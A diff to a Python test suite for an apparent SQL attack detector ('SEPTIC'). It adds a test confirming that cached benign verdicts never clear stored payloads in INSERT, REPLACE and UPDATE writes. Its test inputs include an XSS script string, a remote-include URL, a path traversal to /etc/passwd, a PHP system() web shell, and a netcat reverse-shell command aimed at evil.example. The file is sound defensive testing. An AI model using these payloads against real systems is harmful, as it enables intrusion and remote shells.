@@ -41,6 +41,7 @@ from repro.core.septic import Mode, Septic, SepticConfig
 from repro.core.training import SepticTrainer
 from repro.net.client import NetClient
 from repro.net.server import NetServer
+from repro.shard import ShardRouter
 from repro.sqldb import charset as charset_mod
 from repro.sqldb.connection import Connection
 from repro.sqldb.engine import Database, QueryContext
@@ -402,21 +403,30 @@ def test_texts_that_share_an_entry_share_a_stack_shape(statements,
         assert [driver.run(sql, charset)
                 for sql, charset in texts] == expected
     assert septic.stats.as_dict() == control.stats.as_dict()
+    # blocked where the control blocked, leaving the same events under
+    # the same sequence numbers
+    assert _significant(septic) == _significant(control)
     assert truth[0].count("blocked") > 100 and truth[0].count("ok") > 300
 
     cache = database.pipeline_cache
     groups = {}
+    blocked_on_a_benign_shape = 0
     for (sql, charset), verdict in zip(texts, truth[1]):
         text = cache.probe(charset, sql, database.schema_version)
         if text is None:
             continue            # did not lex or parse: nothing cached
         entry = text.entry
         if verdict == "blocked":
-            # no verdict of an earlier benign run covers an attack
+            # a blocked text is still blocked when its shape holds a
+            # benign verdict (a stored payload in a known INSERT or
+            # UPDATE): its inputs do not pass, so it took the full run
             context = QueryContext(text.decoded, None, entry.stack, [],
                                    database, values=text.values, text=text)
-            assert septic_mod._remembered(
-                context, entry.septic_memo) is None, sql
+            held = septic_mod._remembered(context, entry.septic_memo)
+            if held is not None:
+                assert held.slots, sql
+                assert not septic_mod._inputs_pass(held, text.values), sql
+                blocked_on_a_benign_shape += 1
         if not entry.single_statement:
             continue
         try:
@@ -431,8 +441,200 @@ def test_texts_that_share_an_entry_share_a_stack_shape(statements,
                     entry.stack, text.values).nodes == cold, sql
             cold = structure_and_shape(cold)[1]
         groups.setdefault(id(entry), []).append((cold, sql))
+    assert blocked_on_a_benign_shape > 5
     shared = [group for group in groups.values() if len(group) > 1]
     assert len(shared) > 30
     for group in shared:
         shapes = {shape for shape, _sql in group}
         assert len(shapes) == 1, [sql for _shape, sql in group][:3]
+
+
+# -- stored payloads through warm write shapes --------------------------------
+
+_NOTES = ("CREATE TABLE notes (id INT PRIMARY KEY, owner VARCHAR(20), "
+          "body VARCHAR(200))")
+_WRITES = {
+    "INSERT": "/* septic:notes:1 */ INSERT INTO notes (id, owner, body) "
+              "VALUES (?, ?, ?)",
+    "REPLACE": "/* septic:notes:2 */ REPLACE INTO notes (id, owner, body) "
+               "VALUES (?, ?, ?)",
+    "UPDATE": "/* septic:notes:3 */ UPDATE notes SET body = ? WHERE id = ?",
+}
+#: one payload per default plugin (none holds a quote or a backslash, so
+#: the literal rendering below is the whole escaping story)
+_PAYLOADS = {
+    "StoredXSSPlugin": "<script>alert(1)</script>",
+    "RFIPlugin": "http://evil.example/shell.txt?",
+    "LFIPlugin": "../../../../etc/passwd",
+    "OSCIPlugin": "x | nc evil.example 4444 -e /bin/sh",
+    "RCEPlugin": "<?php system($_GET[1]); ?>",
+}
+
+
+def _write(kind, key, body):
+    values = (body, key) if kind == "UPDATE" else (key, "owner%d" % key, body)
+    return _WRITES[kind], values
+
+
+def _write_script():
+    """Training writes, then per shape: two benign runs (the second finds
+    the verdict the first left), every payload with a benign write of
+    the shape after it, and one more benign run."""
+    training = [_write(kind, 1, "first note") for kind in _WRITES]
+    script = []
+    key = 10
+    for kind in _WRITES:
+        for body in ("a plain note", "another plain note"):
+            script.append(_write(kind, key, body))
+            key += 1
+        for payload in _PAYLOADS.values():
+            script.append(_write(kind, key, payload))
+            script.append(_write(kind, key + 1, "plain again"))
+            key += 2
+    return training, script
+
+
+def _literal_text(template, values):
+    parts = template.split("?")
+    rendered = [str(value) if isinstance(value, int) else "'%s'" % value
+                for value in values]
+    return "".join(part + value
+                   for part, value in zip(parts, rendered + [""]))
+
+
+class _WriteLocal(object):
+    """The write script's driver over one database: literal texts
+    through ``Connection.query``."""
+
+    def __init__(self, cache, tmp_path):
+        self.database = Database(septic=Septic(mode=Mode.TRAINING),
+                                 cache_size=4096 if cache else 0)
+        self.connection = Connection(self.database)
+
+    def septics(self):
+        return [self.database.septic]
+
+    def create(self, ddl):
+        assert self.connection.query(ddl).ok
+
+    def run(self, template, values):
+        return _verdict(self.connection.query(
+            _literal_text(template, values)).error)
+
+    def close(self):
+        pass
+
+
+class _WritePrepared(_WriteLocal):
+    """One handle per shape, the values as its parameters."""
+
+    def __init__(self, cache, tmp_path):
+        _WriteLocal.__init__(self, cache, tmp_path)
+        self._handles = {}
+
+    def run(self, template, values):
+        if template not in self._handles:
+            self._handles[template] = self.connection.prepare(template)
+        return _verdict(self.connection.execute_prepared(
+            self._handles[template], *values).error)
+
+
+class _WriteWire(_WriteLocal):
+    def __init__(self, cache, tmp_path):
+        _WriteLocal.__init__(self, cache, tmp_path)
+        self._server = NetServer(self.database)
+        self._server.start()
+        self._client = NetClient(self._server.host, self._server.port)
+
+    def run(self, template, values):
+        return _verdict(self._client.query(
+            _literal_text(template, values)).error)
+
+    def close(self):
+        self._client.close()
+        self._server.stop()
+
+
+class _WriteRouter(object):
+    """A 2-shard fleet, one SEPTIC per node; ``notes`` is sharded on its
+    primary key, so each write runs on its key's home shard."""
+
+    def __init__(self, cache, tmp_path):
+        self._router = ShardRouter(
+            str(tmp_path / ("warm" if cache else "control")), shards=2,
+            replicas=1, septic_factory=lambda: Septic(mode=Mode.TRAINING))
+        self._databases = [node.database
+                           for replica_set in self._router.shard_sets
+                           for node in replica_set.nodes]
+        if not cache:
+            for database in self._databases:
+                database.pipeline_cache = None
+
+    def septics(self):
+        return [database.septic for database in self._databases]
+
+    def create(self, ddl):
+        self._router.query_or_raise(ddl)
+
+    def run(self, template, values):
+        return _verdict(self._router.query(
+            _literal_text(template, values)).error)
+
+    def close(self):
+        self._router.close()
+
+
+WRITE_ENTRY_POINTS = {"query": _WriteLocal,
+                      "execute_prepared": _WritePrepared,
+                      "wire": _WriteWire, "router": _WriteRouter}
+
+
+def _replay_writes(entry_point, mode, flags, cache, tmp_path):
+    training, script = _write_script()
+    driver = WRITE_ENTRY_POINTS[entry_point](cache, tmp_path)
+    try:
+        driver.create(_NOTES)
+        for template, values in training:
+            assert driver.run(template, values) == "ok"
+        for septic in driver.septics():
+            septic.config = SepticConfig.from_flags(flags)
+            septic.mode = mode
+        verdicts = [driver.run(template, values)
+                    for template, values in script]
+        return (verdicts,
+                [septic.stats.as_dict() for septic in driver.septics()],
+                [_significant(septic) for septic in driver.septics()])
+    finally:
+        driver.close()
+
+
+@pytest.mark.parametrize("flags", ["NY", "YY"])
+@pytest.mark.parametrize("mode", [Mode.PREVENTION, Mode.DETECTION])
+@pytest.mark.parametrize("entry_point", sorted(WRITE_ENTRY_POINTS))
+def test_stored_payloads_through_warm_write_shapes(entry_point, mode, flags,
+                                                   tmp_path, monkeypatch):
+    """A shape's benign verdict serves other benign values and no
+    payload: verdicts, counters and events with their sequence numbers
+    are the control's, and only the benign repeats skipped the run."""
+    counts = _count_avoidable_work(monkeypatch)
+    control = _replay_writes(entry_point, mode, flags, False, tmp_path)
+    control_runs = counts["receive"]
+    counts.clear()
+    warm = _replay_writes(entry_point, mode, flags, True, tmp_path)
+    assert warm == control
+    verdicts, stats, _events = warm
+    payloads = len(_WRITES) * len(_PAYLOADS)
+    expected = "blocked" if mode == Mode.PREVENTION else "ok"
+    assert verdicts.count("blocked") == (
+        payloads if mode == Mode.PREVENTION else 0)
+    assert [verdict for (_template, values), verdict
+            in zip(_write_script()[1], verdicts)
+            if set(values) & set(_PAYLOADS.values())] == [expected] * payloads
+    assert sum(stat["stored_detected"] for stat in stats) == payloads
+    # every payload took the full run; of the benign writes after the
+    # warm-up, none did where one node runs them all
+    assert payloads <= counts["receive"] < control_runs
+    if entry_point != "router":
+        per_shape = 2 + 2 * len(_PAYLOADS)
+        assert control_runs == len(_WRITES) * (1 + per_shape)
+        assert counts["receive"] == len(_WRITES) * 2 + payloads
